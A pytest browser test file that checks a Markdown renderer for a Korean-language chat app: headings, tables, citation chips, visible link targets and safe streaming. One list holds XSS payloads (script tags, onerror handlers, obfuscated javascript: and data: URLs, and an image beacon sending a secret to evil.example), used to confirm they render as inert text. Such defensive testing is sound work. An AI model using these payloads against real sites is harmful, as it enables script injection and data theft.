# ruff: noqa: E501 - JavaScript snippets and Korean test strings read better unwrapped
"""The safe Markdown renderer (static/js/markdown.js), run in Chromium on the real app origin.

Model answers and document snippets go through this renderer, so it must never turn text into
markup: raw HTML stays text, only absolute http(s) links become links and they show their URL.
"""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = pytest.mark.browser

RENDER = """async ([source, cites]) => {
  const { renderMarkdown } = await import('/static/js/markdown.js');
  const host = document.createElement('div');
  host.id = 'md-' + Math.random().toString(36).slice(2);
  document.body.append(host);
  host.append(renderMarkdown(source, { citation: (n) => {
    if (!cites.includes(n)) return null;
    const b = document.createElement('button'); b.className = 'cite-chip'; b.textContent = String(n); return b;
  }}));
  return host.id;
}"""


def render(page: Any, source: str, cites: list[int] | None = None) -> Any:
    host_id = page.evaluate(RENDER, [source, cites or []])
    return page.locator(f"#{host_id}")


@pytest.fixture
def app_page(page: Any) -> Any:
    page.goto("/")
    page.wait_for_selector("#login-form")
    return page


def test_block_structure(app_page: Any) -> None:
    source = (
        "### 출장비 규정\n\n"
        "국내 출장 **일비**는 *2만 원*입니다 [1].\n"
        "다음 줄\n\n"
        "- 숙박비: 7만 원\n- 식비: 3만 원\n  - 조식 포함\n\n"
        "1. 신청\n2. 승인\n\n"
        "> 인용문\n\n"
        "| 구분 | 금액 |\n|---|---:|\n| 일비 | 20,000 |\n| 숙박 | 70,000 |\n\n"
        "```python\nprint('<b>hi</b>')\n```\n\n"
        "`inline <code>` and ~~old~~"
    )
    host = render(app_page, source, [1])
    assert host.locator("h5.md-heading").inner_text() == "출장비 규정"
    assert host.locator("strong").first.inner_text() == "일비"
    assert host.locator("em").first.inner_text() == "2만 원"
    assert host.locator("button.cite-chip").inner_text() == "1"
    assert host.locator("p br").count() == 1  # a single newline is a line break in chat
    assert host.locator("ul > li").count() == 3
    assert host.locator("ul ul > li").inner_text() == "조식 포함"
    assert host.locator("ol > li").all_inner_texts() == ["신청", "승인"]
    assert host.locator("blockquote").inner_text() == "인용문"
    assert host.locator("table th").all_inner_texts() == ["구분", "금액"]
    assert host.locator("table tbody tr").count() == 2
    assert host.locator("table td").nth(1).evaluate("e => e.style.textAlign") == "right"
    assert host.locator("pre code").inner_text() == "print('<b>hi</b>')"
    assert host.locator("pre code b").count() == 0
    assert host.locator("code.md-inline-code").inner_text() == "inline <code>"
    assert host.locator("del").inner_text() == "old"


def test_citations_only_for_known_numbers(app_page: Any) -> None:
    host = render(
        app_page, "근거 [1][2], 목록 [1, 3], 모름 [9], 링크 [1](https://a.example)", [1, 2, 3]
    )
    chips = host.locator("button.cite-chip").all_inner_texts()
    assert chips == ["1", "2", "1", "3"]
    assert "[9]" in host.inner_text()


XSS = [
    "<script>window.__xss = 1</script>",
    '<img src=x onerror="window.__xss = 2">',
    '<svg onload="window.__xss = 3"></svg>',
    "[클릭](javascript:window.__xss=4)",
    "[클릭](JaVaScRiPt:window.__xss=5)",
    "[클릭](java\tscript:window.__xss=6)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9Nzwvc2NyaXB0Pg==)",
    '[x](vbscript:msgbox("8"))',
    "![img](https://evil.example/track.png?secret=1)",
    '![](x" onerror="window.__xss=9)',
    '<a href="javascript:window.__xss=10">a</a>',
    "<iframe src='javascript:window.__xss=11'></iframe>",
    "**<img src=x onerror=window.__xss=12>**",
    "| a |\n|---|\n| <img src=x onerror=window.__xss=13> |",
    "[<img src=x onerror=window.__xss=14>](https://ok.example)",
    '<https://ok.example/"onmouseover="window.__xss=15>',
    "[a](//evil.example/x)",
    "[a](/relative/path)",
]


def test_xss_payloads_are_inert(app_page: Any) -> None:
    dialogs: list[str] = []
    app_page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    host = render(app_page, "\n\n".join(XSS))
    app_page.wait_for_timeout(300)
    assert app_page.evaluate("window.__xss") is None
    assert not dialogs
    for tag in ("script", "img", "svg", "iframe", "object", "embed", "style"):
        assert host.locator(tag).count() == 0, tag
    attributes = host.evaluate(
        "h => [...h.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
    )
    assert not [a for a in attributes if a.startswith("on")]
    hrefs = host.evaluate("h => [...h.querySelectorAll('a')].map(a => a.getAttribute('href'))")
    assert hrefs, "the http(s) links among the payloads are still links"
    assert all(h.startswith(("https://", "http://")) for h in hrefs), hrefs
    text = host.inner_text()
    assert "<script>" in text  # shown as text, not run
    assert "javascript:window.__xss=4" in text  # the inert link shows what it was
    # The image is not loaded; it became a link that shows where it points.
    assert host.locator("a[href='https://evil.example/track.png?secret=1']").count() == 1


def test_links_show_where_they_go(app_page: Any) -> None:
    host = render(
        app_page,
        "[사내 포털](https://evil.example/login) 그리고 [https://portal.company.example](https://evil.example/x) "
        "및 https://docs.example/a_b.pdf에서 확인.",
    )
    links = host.locator("a")
    assert links.count() == 3
    first = links.nth(0)
    assert first.get_attribute("href") == "https://evil.example/login"
    assert "(https://evil.example/login)" in first.inner_text()
    assert first.get_attribute("rel") == "noopener noreferrer nofollow"
    # A label that looks like another URL cannot hide the real target.
    assert "(https://evil.example/x)" in links.nth(1).inner_text()
    # A bare URL stops before the Korean particle that follows it.
    assert links.nth(2).get_attribute("href") == "https://docs.example/a_b.pdf"


def test_streaming_partial_markdown_is_safe(app_page: Any) -> None:
    # Each token re-renders the whole answer: every prefix must render without error.
    answer = "**굵게** [링크](https://a.example) `코드` <b>x</b>\n\n```\n코드 블록"
    for end in range(1, len(answer) + 1):
        host = render(app_page, answer[:end])
        assert host.locator("b").count() == 0
